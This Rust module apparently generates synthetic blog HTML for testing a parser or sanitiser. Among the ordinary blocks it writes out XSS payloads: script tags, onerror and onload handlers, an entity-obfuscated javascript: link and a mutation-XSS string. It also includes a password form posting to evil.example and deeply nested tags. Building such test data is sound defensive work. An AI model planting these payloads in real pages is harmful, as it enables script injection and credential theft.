//! Bodies: HTML as blogs write it, some of it broken, some of it hostile.

use std::fmt::Write as _;

use super::chance::Chance;

/// One body of so many carries an attack as a whole, beside the small ones that stand anywhere.
const ATTACKS: usize = 100;
/// How deep an attack nests.
const DEPTH: usize = 300;

/// A body whose length has a long tail: a fifth as long as the mean, up to five times.
pub(crate) fn body(chance: &mut Chance, mean: usize) -> String {
    let length = match chance.below(20) {
        0 => 0,
        1..=9 => mean / 5,
        10..=15 => mean,
        16..=18 => mean * 2,
        _ => mean * 5,
    };
    let mut html = String::with_capacity(length + 1_000);
    while html.len() < length {
        block(chance, &mut html);
    }
    if chance.below(ATTACKS) == 0 {
        attack(chance, &mut html);
    }
    html
}

fn block(chance: &mut Chance, html: &mut String) {
    let words = 20 + chance.below(60);
    let text = chance.sentence(words);
    let number = chance.below(1_000);
    let _ = match chance.below(16) {
        0 => writeln!(html, "<h2 id=\"part-{number}\">{}</h2>", chance.sentence(4)),
        1 => writeln!(
            html,
            "<figure><img src=\"/images/{number}.jpg\" alt=\"{}\" style=\"width:100%\"></figure>",
            chance.sentence(3)
        ),
        2 => writeln!(
            html,
            "<ul><li>{}</li><li>{text}</li></ul>",
            chance.sentence(9)
        ),
        3 => writeln!(
            html,
            "<div class=\"highlight\"><pre class=\"highlight rust\"><code><span class=\"k\">let</span> \
             <span class=\"n\">x</span> <span class=\"o\">=</span> <span class=\"mi\">{number}</span>\
             <span class=\"p\">;</span>\n</code></pre></div>"
        ),
        4 => writeln!(html, "<blockquote><p>{text}</p></blockquote>"),
        5 => writeln!(
            html,
            "<table><tr><th>a</th><th>b</th></tr><tr><td>{number}</td><td>{text}</td></tr></table>"
        ),
        6 if number < 50 => writeln!(
            html,
            "<p onclick=\"steal()\">{text}<script>alert(1)</script><img src=x onerror=alert(1)>"
        ),
        7 if number < 100 => writeln!(html, "<p><b>{text}<i></b> unclosed <div></p>"),
        8 if number < 50 => writeln!(
            html,
            "<iframe src=\"https://www.youtube.com/embed/x{number}\"></iframe>"
        ),
        _ => writeln!(
            html,
            "<p class=\"wp-block-paragraph\">{text} <a href=\"/see/{number}\" target=\"_blank\">{}</a> &amp; more.</p>",
            chance.sentence(2)
        ),
    };
}

/// What goes on to the end of a body, whatever was meant.
fn attack(chance: &mut Chance, html: &mut String) {
    match chance.below(6) {
        0 => html.push_str(&"<div><b>".repeat(DEPTH)),
        1 => html.push_str("<a href=\"java&#x0A;script:alert(1)\">read more</a>"),
        2 => html.push_str("<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>"),
        3 => html.push_str("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
        4 => html.push_str("<form action=\"https://evil.example/\"><input name=\"password\"><button>Go</button>"),
        _ => html.push_str("<p>cut off here <!-- <a href=\"x\""),
    }
}
